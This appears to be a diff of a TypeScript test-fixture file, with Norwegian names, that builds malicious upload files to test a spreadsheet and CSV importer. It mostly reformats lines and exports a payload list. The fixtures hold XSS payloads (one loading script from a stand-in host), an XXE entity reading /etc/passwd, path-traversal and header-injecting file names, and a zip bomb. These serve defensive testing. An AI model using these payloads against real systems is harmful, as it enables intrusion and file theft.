@@ -5,7 +5,7 @@ import type { Tilfeldig } from './tilfeldig.ts'
 export const KANARI = 'kanari'
 export const ONDVERT = 'ond.invalid'
 
-const SKRIPT = [
+export const SKRIPT = [
   '<script>kanari()</script>',
   '"><script src=//ond.invalid/k.js></script>',
   '"><img src=x onerror=kanari()>',
@@ -212,7 +212,9 @@ function storTekst(t: Tilfeldig): string {
 
 function vilkarligTekst(t: Tilfeldig): string {
   const tak = t.en([0x7f, 0x2ff, 0xffff, 0x10ffff])
-  return Array.from({ length: 1 + t.tall(30) }, () => String.fromCodePoint(t.tall(tak + 1))).join('')
+  return Array.from({ length: 1 + t.tall(30) }, () => String.fromCodePoint(t.tall(tak + 1))).join(
+    '',
+  )
 }
 
 export interface Provefil {
@@ -230,18 +232,26 @@ const FILER: readonly Provefil[] = [
   fil('brukket.xlsx', XLSX, () => Buffer.from('PK\u0003\u0004 dette er ikke en zip')),
   fil('halv.xlsx', XLSX, () => lagArbeidsbok(lagRader([['a', 'b']])).subarray(0, 200)),
   fil('bilde.xlsx', XLSX, () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')),
-  fil('brev.docx', 'application/msword', () => lagZip([{ navn: 'word/document.xml', innhold: '<a/>' }])),
+  fil('brev.docx', 'application/msword', () =>
+    lagZip([{ navn: 'word/document.xml', innhold: '<a/>' }]),
+  ),
   fil('bok.xlsx', XLSX, () => lagArbeidsbok('<row r="1"><c r="A1" t="s"><v>9</v></c></row>')),
   fil('dtd.xlsx', XLSX, () =>
     lagArbeidsbok('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><row><c>&x;</c></row>'),
   ),
-  fil('rot.xlsx', XLSX, () => lagArbeidsbok('<row r="x"><c r="ÆØÅ"><v>NaN</v></c></row></sheetData>')),
+  fil('rot.xlsx', XLSX, () =>
+    lagArbeidsbok('<row r="x"><c r="ÆØÅ"><v>NaN</v></c></row></sheetData>'),
+  ),
   fil('bombe.xlsx', XLSX, () => (bombe ??= lagBombe())),
-  fil('lyger.xlsx', XLSX, () => lagZip([{ navn: 'xl/workbook.xml', innhold: 'a'.repeat(9999) }], 5)),
+  fil('lyger.xlsx', XLSX, () =>
+    lagZip([{ navn: 'xl/workbook.xml', innhold: 'a'.repeat(9999) }], 5),
+  ),
   fil('sti.xlsx', XLSX, () => lagZip([{ navn: '../../../../tmp/kanari', innhold: 'x' }])),
   fil('../../../etc/passwd', 'text/csv', () => Buffer.from('a;b\n1;2\n')),
   fil('..\\..\\boot.ini', 'text/csv', () => Buffer.from('a;b\n1;2\n')),
-  fil('"><script>kanari()</script>.csv', 'text/csv', () => Buffer.from('<script>kanari()</script>;b\n')),
+  fil('"><script>kanari()</script>.csv', 'text/csv', () =>
+    Buffer.from('<script>kanari()</script>;b\n'),
+  ),
   fil('a\r\nX-Kanari: 1.csv', 'text/csv', () => Buffer.from('a,b\r\n"1')),
   fil('nul.csv', 'text/csv', () => Buffer.from('a;b\0\n\0;2\n')),
   fil('utf16.csv', 'text/csv', () => Buffer.from('\uFEFFa;b\n1;2\n', 'utf16le')),
